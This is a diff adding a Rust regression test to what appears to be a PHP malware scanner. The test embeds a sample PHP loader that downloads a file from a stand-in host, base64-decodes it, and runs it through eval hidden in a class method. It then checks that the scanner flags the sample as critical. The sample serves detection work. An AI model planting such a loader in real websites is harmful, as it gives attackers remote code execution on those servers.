@@ -1489,3 +1489,15 @@ fn base64_for_test(b: &[u8]) -> String {
     }
     out
 }
+
+#[test]
+fn a_method_of_an_object_the_file_makes_that_runs_its_argument_is_followed() {
+    // Regression: fresh105's loader hides `eval` in a class's method called on an object it
+    // makes (`$R = new C(); $R->nvoke($a)`), given a text fetched and decoded.
+    let loader = "<?php $a = file_get_contents('https://x.example/wp-admin/js/plugins.js'); $a = base64_decode($a);\n\
+                  class C { public function nvoke($p) { eval($p . ''); } }\n$R = new C(); $R->nvoke($a);";
+    assert!(sinks(loader).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(loader));
+    // An object the file does not make (a framework's) with a method of the same name.
+    let other = loader.replace("$R = new C(); ", "");
+    assert!(!sinks(&other).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(&other));
+}
